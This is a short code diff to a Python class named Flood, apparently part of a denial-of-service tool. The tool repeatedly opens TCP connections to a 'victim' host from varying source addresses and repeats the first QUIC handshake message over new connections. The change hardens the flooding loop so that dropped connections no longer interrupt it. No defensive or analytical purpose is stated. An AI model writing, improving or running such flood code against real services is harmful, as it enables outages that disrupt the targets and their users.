@@ -91,15 +91,21 @@ class Flood:
 
     async def _call_again_and_again(self, way: Any, source: str) -> None:
         while True:
-            with suppress(OSError, trio.BrokenResourceError):
+            with suppress(OSError):
                 stream = await trio.open_tcp_stream(self._victim.host, self._victim.port, local_address=source)
                 self.calls += 1
                 async with stream, trio.open_nursery() as nursery:
-                    nursery.start_soon(way, stream)
-                    while await stream.receive_some():
-                        pass
+                    nursery.start_soon(self._say, way, stream)
+                    with suppress(trio.BrokenResourceError):
+                        while await stream.receive_some():
+                            pass
                     nursery.cancel_scope.cancel()
             await trio.sleep(PAUSE)
+
+    async def _say(self, way: Any, stream: trio.SocketStream) -> None:
+        """Say something to somebody who may hang up meanwhile."""
+        with suppress(trio.BrokenResourceError):
+            await way(stream)
 
     async def _half_quic(self, source: str) -> None:
         """Say the first word of QUIC again and again, each time of another connection."""
